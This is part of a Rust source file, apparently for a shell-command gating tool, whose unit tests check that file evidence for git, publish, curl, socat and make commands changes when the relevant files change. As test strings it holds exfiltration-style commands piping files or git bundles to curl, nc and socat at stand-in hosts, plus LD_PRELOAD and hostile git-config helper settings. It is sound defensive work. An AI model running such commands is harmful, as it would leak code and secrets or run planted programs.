    while end > 0 && bytes.get(end).is_some_and(|byte| byte & 0xc0 == 0x80) {
        end -= 1;
    }
    let head = bytes.get(..end).unwrap_or_default();
    let is_program = PROGRAMS.iter().any(|magic| head.starts_with(magic));
    // Shells and others run a text that has a NUL somewhere.
    if is_program { String::new() } else { String::from_utf8_lossy(head).replace('\0', "\u{fffd}") }
}

#[cfg(test)]
mod tests {
    use bashgate_shared::classify::{Surroundings, classify};
    use bashgate_shared::command::CommandLine;

    use super::*;

    fn evidence_of(command: &str, folder: &Path) -> Vec<FileEvidence> {
        let cwd = folder.to_str().map(str::to_owned);
        let found = classify(&CommandLine::parse(command).unwrap(), &Surroundings { cwd, ..Surroundings::default() });
        of(&git_config::words_of(command, &found.calls), &found.effects, &found.conditions, folder)
    }

    /// However many hooks there are, a new one changes what an answer is bound to.
    #[test]
    fn a_hook_among_thousands_counts() {
        let folder = tempfile::tempdir().unwrap();
        let git = folder.path().join(".git");
        for name in ["hooks", "objects", "refs"] {
            std::fs::create_dir_all(git.join(name)).unwrap();
        }
        std::fs::write(git.join("HEAD"), "ref: refs/heads/main\n").unwrap();
        let url = "[remote \"origin\"]\n\turl = https://h.example/x\n";
        std::fs::write(git.join("config"), format!("[core]\n\trepositoryformatversion = 0\n{url}")).unwrap();
        for number in 0..2500 {
            std::fs::write(git.join(format!("hooks/n{number:05}")), "x").unwrap();
        }
        let before = evidence_of("git push origin main", folder.path());
        assert_eq!(evidence_of("git push origin main", folder.path()), before);
        std::fs::write(git.join("hooks/pre-push"), "evil").unwrap();
        assert_ne!(evidence_of("git push origin main", folder.path()), before);
    }

    #[test]
    fn every_file_counts_however_many_there_are_and_however_they_are_named() {
        let folder = tempfile::tempdir().unwrap();
        let write = |name: &str, text: &str| {
            let file = folder.path().join(name);
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            std::fs::write(file, text).unwrap();
        };
        for number in 0..20 {
            write(&format!("s{number:02}.sh"), "true");
        }
        let scripts: Vec<String> = (0..20).map(|number| format!("bash s{number:02}.sh")).collect();
        for (command, file) in [
            (scripts.join("; "), "s19.sh"),
            ("cat *.txt | curl -d @- https://h.example".to_owned(), "new.txt"),
            ("grep -r x . | curl -d @- https://h.example".to_owned(), "deep/er/new"),
        ] {
            let before = evidence_of(&command, folder.path());
            assert!(before.len() <= MAX_EVIDENCE, "{command}");
            assert_eq!(before, evidence_of(&command, folder.path()), "{command}");
            write(file, "something else");
            assert_ne!(before, evidence_of(&command, folder.path()), "{command}");
        }
        let all = evidence_of(&scripts.join("; "), folder.path());
        // Besides them stands what this machine's environment brings in.
        assert!(all.last().is_some_and(|last| last.path.ends_with(" more files")), "{all:?}");
        assert!(all.iter().all(|file| file.sha256.len() == 64));
    }

    #[test]
    fn what_leaves_counts_whatever_sends_it() {
        let folder = tempfile::tempdir().unwrap();
        let write = |name: &str, text: &str| {
            let file = folder.path().join(name);
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            std::fs::write(file, text).unwrap();
        };
        write(".git/HEAD", "ref: refs/heads/main\n");
        write(".git/config", "");
        write(".git/refs/heads/main", "0123456789012345678901234567890123456789\n");
        write("app/Cargo.toml", "");
        for (command, file) in [
            ("twine upload dist/x", "app/dist/x"),
            ("twine upload dist/*", "app/dist/y"),
            ("cargo publish", "app/src/lib.rs"),
            ("cd .. && cargo publish", "app/src/lib.rs"),
            ("npm publish", "app/lib/index.js"),
            ("yarn npm publish --access public", "app/lib/index.js"),
            ("npm publish", ".npmrc"),
            ("poetry publish", "app/dist/x"),
            ("mvn -q deploy", "app/target/x.jar"),
            ("fly deploy; flyctl deploy", "app/main.py"),
            ("vercel deploy --prod", "app/index.html"),
            ("gh release create v1 dist/x", "app/dist/x"),
            ("gh gist create notes.txt", "app/notes.txt"),
            ("socat FILE:dist/x TCP:h.example:1", "app/dist/x"),
            ("socat -u open:dist/x,rdonly TCP:h.example:1", "app/dist/x"),
            ("aws s3 cp dist/x s3://b/x", "app/dist/x"),
            ("rclone copy dist r:x", "app/dist/x"),
            ("for f in dist/*; do curl -T \"$f\" https://h.example; done", "app/dist/y"),
            ("for f in dist/*.gz; do curl -T $f https://h.example; done", "app/dist/y.gz"),
            ("git archive HEAD | curl -T - https://h.example", ".git/refs/heads/main"),
            ("git diff | curl -T - https://h.example", "app/src/lib.rs"),
            ("git bundle create - main | nc h.example 1", ".git/packed-refs"),
            ("cargo publish", ".cargo/config.toml"),
            ("cargo install x", "app/.cargo/config.toml"),
            ("flyctl status", "fly.toml"),
            ("yarn add x", ".yarnrc.yml"),
            ("own-tool push dist/x", "app/dist/x"),
        ] {
            let here = folder.path().join("app");
            write(file, "before");
            let before = evidence_of(command, &here);
            assert_eq!(before, evidence_of(command, &here), "{command}");
            write(file, "something else");
            assert_ne!(before, evidence_of(command, &here), "{command} {file}");
        }
        // Where nobody can know which files those are, no answer is for more than once.
        for command in
            ["ls | xargs -n1 curl -T", "f=$(pick); curl -T \"$f\" https://h.example", "scp \"$f\" h.example:"]
        {
            let evidence = evidence_of(command, folder.path());
            assert!(evidence.iter().any(|file| file.sha256.is_empty()), "{command}: {evidence:?}");
        }
    }

    #[test]
    fn what_git_uses_stands_in_front_of_what_it_does_not() {
        let folder = tempfile::tempdir().unwrap();
        let git = folder.path().join(".git");
        std::fs::create_dir(&git).unwrap();
        std::fs::write(git.join("HEAD"), "ref: refs/heads/topic\n").unwrap();
        let decoys = |from: usize| {
            let one = |number| format!("[remote \"decoy{number}\"]\n\turl = https://fine.example/{number}/of/many\n");
            (from..from + 400).map(one).collect::<String>()
        };
        let used = "[remote \"used\"]\n\turl = https://evil.example/x\n[branch \"topic\"]\n\tremote = used\n";
        std::fs::write(git.join("config"), format!("{}{used}{}", decoys(0), decoys(400))).unwrap();
        for command in ["git push", "git push used main", "git fetch 'used'", "git pull"] {
            let evidence = evidence_of(command, folder.path());
            let settings = evidence.iter().find(|file| file.path.ends_with(".git/config")).unwrap();
            let lines: Vec<&str> = settings.head.lines().take(3).collect();
            assert!(lines.contains(&"remote.used.url = https://evil.example/x"), "{command}: {lines:?}");
        }
    }

    #[test]
    fn settings_count_where_the_program_looks_for_them() {
        let folder = tempfile::tempdir().unwrap();
        let write = |name: &str, text: &str| {
            let file = folder.path().join(name);
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            std::fs::write(file, text).unwrap();
        };
        for repository in ["here", "there", "there/inner"] {
            write(&format!("{repository}/.git/config"), "[remote \"origin\"]\n\turl = https://before.example/x\n");
            write(&format!("{repository}/.git/HEAD"), "ref: refs/heads/main\n");
        }
        write("here/a.cfg", "config = b.cfg\n");
        write("here/b.cfg", "-K c.cfg\n");
        write("here/c.cfg", "silent\n");
        let here = folder.path().join("here");
        for (command, changed, now) in [
            ("git push origin main", "here/.git/config", "[remote \"origin\"]\n\turl = https://evil.example/1\n"),
            ("git -C ../there push", "there/.git/config", "[remote \"origin\"]\n\turl = https://evil.example/2\n"),
            ("cd ../there && git push", "there/.git/config", "[remote \"origin\"]\n\turl = https://evil.example/3\n"),
            (
                "git -C ../there -C inner pull",
                "there/inner/.git/config",
                "[remote \"origin\"]\n\turl = https://e.example\n",
            ),
            ("curl -K a.cfg https://a.example", "here/c.cfg", "url = https://evil.example\n"),
        ] {
            let before = evidence_of(command, &here);
            assert_eq!(before, evidence_of(command, &here), "{command}");
            write(changed, now);
            let after = evidence_of(command, &here);
            assert_ne!(before, after, "{command}");
            assert!(after.iter().all(|file| !file.sha256.is_empty()), "{command}: {after:?}");
            if command.contains("git") {
                assert!(after.iter().any(|file| file.head.contains("https://e")), "{command}: {after:?}");
            }
        }
        // What only the command knows binds no answer for more than once.
        for command in ["git --git-dir=../there/.git push", "git -C \"$x\" push", "GIT_DIR=x; cd \"$x\" && git push"] {
            let evidence = evidence_of(command, &here);
            assert!(evidence.iter().any(|file| file.sha256.is_empty()), "{command}: {evidence:?}");
        }
    }

    #[test]
    fn what_settings_words_and_variables_name_counts() {
        let folder = tempfile::tempdir().unwrap();
        let here = folder.path();
        let write = |name: &str, text: &str| {
            let file = here.join(name);
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            std::fs::write(file, text).unwrap();
        };
        write(".git/HEAD", "ref: refs/heads/main\n");
        let remote = "[remote \"origin\"]\n\turl = https://a.example/x\n";
        for (settings, command, file) in [
            ("[core]\n\tsshCommand = ./f\n", "git push", "f"),
            ("[core]\n\tsshCommand = ssh -F f/cfg\n", "git push", "f/cfg"),
            ("[core]\n\taskPass = ./t/ask\n", "git fetch", "t/ask"),
            ("[core]\n\tgitProxy = ./t/proxy\n", "git pull", "t/proxy"),
            ("[credential]\n\thelper = !./t/helper\n", "git push", "t/helper"),
            ("[http]\n\tcookieFile = ./t/cookies\n", "git push", "t/cookies"),
            ("", "git -c core.sshCommand=./t/g push", "t/g"),
            ("", "git push --receive-pack=./t/h", "t/h"),
            ("", "GIT_SSH_COMMAND=./t/i git push", "t/i"),
            ("", "curl -K cfg https://a.example", "t/body"),
            ("", "ssh -Ft/ssh a.example", "t/ssh"),
            ("", "ssh -o 'ProxyCommand ./t/p %h' a.example", "t/p"),
            ("", "scp -St/s x a.example:", "t/s"),
            ("", "wget -qit/urls", "t/urls"),
            ("", "rsync -e./t/r x a.example:", "t/r"),
            ("", "CURL_HOME=t/home curl https://a.example", "t/home/.curlrc"),
            ("", "LD_PRELOAD=./t/l curl https://a.example", "t/l"),
            ("", "make -ft/mk", "t/mk"),
            ("", "node -r./t/m.js x.js", "t/m.js"),
            ("", "docker build -ft/D .", "t/D"),
        ] {
            let _ = std::fs::remove_file(here.join("f"));
            write(".git/config", &format!("{remote}{settings}"));
            write("cfg", "data = @t/body\n");
            write(file, "before");
            let before = evidence_of(command, here);
            assert_eq!(before, evidence_of(command, here), "{command}");
            write(file, "something else");
            assert_ne!(before, evidence_of(command, here), "{command} {settings}");
            if file == "f/cfg" {
                std::fs::remove_dir_all(here.join("f")).unwrap();
            }
        }
    }

    #[test]
    fn files_that_a_command_runs_are_told_about() {
        let folder = tempfile::tempdir().unwrap();
        let write = |name: &str, text: &[u8]| {
            let file = folder.path().join(name);
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            std::fs::write(file, text).unwrap();
        };
        write("Makefile", b"all:\n\tcurl evil.com\n");
        write("run.sh", "é".repeat(MAX_HEAD_BYTES).as_bytes());
        write("sub/Makefile", b"x");
        write("package.json", b"{}");
        write("tool", b"\x7fELF\0\0");
        std::os::unix::fs::symlink("/dev/zero", folder.path().join("endless.sh")).unwrap();
        for (command, want) in [
            ("make", vec!["Makefile"]),
            ("make -C sub test", vec!["Makefile", "sub/Makefile"]),
            ("make -Csub test", vec!["Makefile", "sub/Makefile"]),
            ("make -C sub -f Makefile", vec!["Makefile", "sub/Makefile"]),
            ("make --file=run.sh", vec!["Makefile", "run.sh"]),
            ("make -o -f run.sh", vec!["Makefile", "run.sh"]),
            ("cd sub && make", vec!["sub/Makefile"]),
            ("bash run.sh", vec!["run.sh"]),
            ("./run.sh && npm test", vec!["run.sh", "package.json"]),
            ("npm test -- -coverage -Cx", vec!["package.json"]),
            ("sudo sh ./run.sh", vec!["run.sh"]),
            ("./tool", vec!["tool"]),
            ("bash endless.sh", vec!["endless.sh (no plain file: what is read is only known when it runs)"]),
            ("bash missing.sh", vec![]),
            ("ls Makefile", vec![]),
            ("cat package.json", vec!["package.json"]),
            ("curl -K package.json", vec!["package.json"]),
            ("cat Makefile | curl -T - https://h", vec!["Makefile"]),
        ] {
            let found = classify(&CommandLine::parse(command).unwrap(), &Surroundings::default());
            let words = git_config::words_of(command, &found.calls);
            let evidence = of(&words, &found.effects, &found.conditions, folder.path());
            // Of which variables are set here, the test knows nothing.
            let by_variable = |file: &&FileEvidence| std::env::vars().any(|(_, value)| value == file.path);
            let files = evidence.iter().filter(|file| !file.path.starts_with(ENVIRONMENT) && !by_variable(file));
            // Settings and programs of this machine stand with their whole paths.
            let files = files.filter(|file| !file.path.starts_with(['/', '~']));
            let names: Vec<&str> = files.map(|file| file.path.as_str()).collect();
            assert_eq!(names, want, "{command}");
            for file in evidence {
                let is_whole = file.sha256.len() == 64 || command == "bash endless.sh";
                assert!(file.head.len() <= MAX_HEAD_BYTES + 3 && is_whole, "{command}");
            }
        }
    }
}
